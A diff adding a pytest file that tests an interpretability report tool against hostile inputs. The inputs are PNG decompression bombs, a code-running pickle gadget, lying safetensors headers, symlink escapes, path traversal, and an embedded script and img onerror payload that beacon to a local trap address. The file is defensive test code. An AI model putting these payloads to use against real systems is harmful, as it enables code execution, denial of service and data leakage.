@@ -1,0 +1,187 @@
+"""Files of strangers that lie, explode, run code or lead elsewhere: one clear error or note each, and nothing else."""
+
+import json
+import struct
+import zlib
+from pathlib import Path
+
+import pytest
+import torch
+from PIL import Image
+
+from interp.errors import UserError
+from interp.lit.checkpoint import carry_over, find_checkpoint, read_checkpoint
+from interp.lit.data.folder import images
+from interp.lit.report_page import render, write
+from interp.lit.sweep import found
+from plugins.report import main
+from tests.lit.test_report import CHROMIUM, EVIL, figure
+from tests.studies import Confidence, ConfidencePlugin
+
+
+def bomb(path: Path, width: int, height: int) -> None:
+    """A whole PNG of a few hundred bytes that claims these sizes."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    parts = chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(10**5))) + chunk(b"IEND", b"")
+    path.write_bytes(b"\x89PNG\r\n\x1a\n" + parts)
+
+
+@pytest.mark.parametrize("size", [(9_000, 9_000), (10_000, 10_000), (60_000, 60_000), (2**31 - 1, 2**31 - 1)])
+def test_a_png_bomb_is_refused_before_it_is_decoded(tmp_path, size):
+    bomb(tmp_path / "photos" / "bomb.png", *size)
+    with pytest.raises(UserError, match=r"cannot read the image .*bomb.png: .*; repair or remove it"):
+        _ = images(str(tmp_path / "photos"), 32).val[0]
+    folder = figure(tmp_path)
+    bomb(folder / "bomb.png", *size)
+    page = render(tmp_path)
+    assert "nmf/epoch=0000/bomb.png is damaged" in page and page.count('class="shot"') < 2
+
+
+@pytest.mark.parametrize("scheme", ["http", "https", "s3", "file"])
+def test_an_address_is_no_checkpoint(scheme, monkeypatch):
+    monkeypatch.setattr("socket.socket", lambda *_, **__: pytest.fail("it was contacted"))
+    with pytest.raises(UserError, match="addresses are not read; download the file"):
+        find_checkpoint(f"{scheme}://127.0.0.1:1/evil.ckpt", ("last.ckpt",))
+
+
+class Touch:
+    """What a hostile pickle carries."""
+
+    def __init__(self, path: Path) -> None:
+        self.path = path
+
+    def __reduce__(self):
+        return Path.touch, (self.path,)
+
+
+@pytest.mark.parametrize("old_format", [True, False])
+@pytest.mark.parametrize("place", ["state_dict", "hyper_parameters", "callbacks", "loops"])
+def test_a_pickle_anywhere_in_a_checkpoint_is_not_run(tmp_path, place, old_format):
+    path, pwned = tmp_path / "evil.ckpt", tmp_path / "pwned"
+    torch.save({"state_dict": {}, place: {"x": Touch(pwned)}}, path, _use_new_zipfile_serialization=not old_format)
+    with pytest.raises(UserError, match="evil.ckpt: damaged, or more than weights"):
+        read_checkpoint(path)
+    assert not pwned.exists()
+
+
+def lying(path: Path, **header) -> None:
+    text = json.dumps(header).encode()
+    path.write_bytes(struct.pack("<Q", header.pop("length", None) or len(text)) + text + bytes(8))
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        {"highest": {"dtype": "F32", "shape": [2**40], "data_offsets": [0, 2**42]}},
+        {"highest": {"dtype": "F32", "shape": [1000], "data_offsets": [0, 8]}},
+        {"highest": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}},
+        {"highest": {"dtype": "EVIL", "shape": [2], "data_offsets": [0, 8]}},
+        {"length": 2**62},
+        {"other": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}},
+    ],
+    ids=["huge", "short", "backwards", "kind", "length", "name"],
+)
+def test_safetensors_with_a_lying_header_are_named(tmp_path, header, caplog):
+    folder = tmp_path / "results" / "sure" / "epoch=0001"
+    Confidence(torch.rand(2)).save(folder)
+    lying(folder / "result.safetensors", **header)
+    main([str(tmp_path)])
+    assert "sure/epoch=0001 is not drawn" in caplog.text
+    fresh = Confidence(torch.rand(2))
+    assert ConfidencePlugin(name="sure").continued(fresh, folder.parent, epoch=2) is fresh
+    assert "epoch=0001 cannot be read" in caplog.text
+
+
+def test_links_out_of_a_run_are_neither_shown_nor_copied_nor_written_through(tmp_path, caplog):
+    run, private = tmp_path / "run", tmp_path / "private"
+    figure(private, "nmf", 3)
+    (private / "notes.txt").write_text("my own notes")
+    own = figure(run, "nmf", 1)
+    for name in ("stolen.html", "stolen.png"):
+        (own / name).symlink_to(private / "notes.txt")
+    (run / "results" / "nmf" / "epoch=0003").symlink_to(private / "results" / "nmf" / "epoch=0003")
+    (run / "results" / "loop").symlink_to(run / "results")
+    (run / "results" / "environment.json").symlink_to(private / "notes.txt")
+    (run / ".hydra").mkdir()
+    (run / ".hydra" / "config.yaml").symlink_to(private / "notes.txt")
+    before = {path: path.read_bytes() for path in private.rglob("*") if path.is_file()}
+    main([str(run), "--redraw"])
+    page = (run / "report.html").read_text()
+    assert "my own notes" not in page and page.count("leads out of the run&#39;s folder") >= 4
+    assert "nmf/epoch=0003 is not drawn: UserError: is a link that leads out" in caplog.text
+    assert not [figure for figure in found(run)["figures"] if figure["name"] == "stolen"]
+    carry_over(run / "checkpoints" / "last.ckpt", 5, tmp_path / "next")
+    copied = [path for path in (tmp_path / "next").rglob("*") if path.is_file()]
+    assert copied and not any(b"my own notes" in path.read_bytes() for path in copied)
+    assert not (tmp_path / "next" / "results" / "loop").exists()
+    assert before == {path: path.read_bytes() for path in private.rglob("*") if path.is_file()}
+
+
+def test_a_run_reached_by_a_link_is_shown_as_ever(tmp_path):
+    figure(tmp_path / "run", caption="what it shows")
+    (tmp_path / "latest").symlink_to(tmp_path / "run")
+    assert "what it shows" in render(tmp_path / "latest") and "leads out" not in render(tmp_path / "latest")
+
+
+NOSY = """<p>here</p><script>
+const tell = (what) => fetch("{address}/" + what).catch(() => 0);
+tell("fetch"); new Image().src = "{address}/image"; navigator.sendBeacon("{address}/beacon");
+const frame = document.createElement("iframe"); frame.src = "{address}/frame"; document.body.append(frame);
+const style = document.createElement("link"); style.rel = "stylesheet"; style.href = "{address}/style";
+document.head.append(style);
+try {{ parent.document.title = "taken"; }} catch (error) {{}}
+try {{ window.open("{address}/window"); }} catch (error) {{}}
+const form = document.createElement("form"); form.action = "{address}/form"; document.body.append(form); form.submit();
+location = "{address}/navigation";
+</script>"""
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="no chromium: apt-get install chromium")
+@pytest.mark.parametrize("embed", [True, False])
+def test_the_content_policy_holds_in_a_browser(tmp_path, embed):
+    from tests.end_to_end.conftest import Trap
+
+    sync = pytest.importorskip("playwright.sync_api", reason="no playwright: pip install 'epochscope[test]'")
+    trap = Trap()
+    target = figure(tmp_path, caption=f"{EVIL}<img src={trap.address}/x onerror=\"document.title='taken'\">")
+    if embed:  # beside the page a widget is a document of its own, in a sandbox but without the page's policy
+        (target / "nosy.html").write_text(NOSY.format(address=trap.address))
+    write(tmp_path, EVIL, embed=embed)
+    with sync.sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
+        page, alerts = browser.new_page(), []
+        page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
+        page.goto((tmp_path / "report.html").as_uri())
+        page.locator("figure").last.scroll_into_view_if_needed()
+        page.wait_for_timeout(1500)
+        assert page.title().startswith("</script>") and "onerror" in page.locator("figcaption").first.text_content()
+        page.evaluate("() => { const s = document.createElement('script'); s.text = 'document.title = \"ran\"';"
+                      "document.body.append(s); document.body.insertAdjacentHTML('beforeend',"
+                      "'<img src=x onerror=\"document.title = 1\">'); }")  # fmt: skip
+        page.wait_for_timeout(200)
+        assert page.title().startswith("</script>")
+        browser.close()
+    trap.server.close()
+    assert not any(trap.asked) and alerts == []  # connections that ask for nothing are the browser's own guesses
+
+
+def test_pictures_are_not_named_out_of_the_folder(tmp_path, caplog):
+    class Escaping(Confidence):
+        def pictures(self):
+            return {"../../x": torch.zeros(3, 4, 4, dtype=torch.uint8)}
+
+    plugin = ConfidencePlugin(name="sure")
+    plugin.keep(Escaping(torch.rand(2)), tmp_path / "results" / "sure" / "epoch=0001", [], epoch=1, step=0)
+    plugin.finish_drawing()
+    assert "'../../x' is no name of a picture" in caplog.text
+    assert not list(tmp_path.rglob("x.png")) and not (tmp_path.parent / "x.png").exists()
+
+
+def test_pillow_itself_is_still_trusted_with_ordinary_pictures(tmp_path):
+    Image.new("RGB", (4000, 3000)).save(tmp_path / "photo.png")
+    assert images(str(tmp_path), 32).val[0][0].shape == (3, 32, 32)
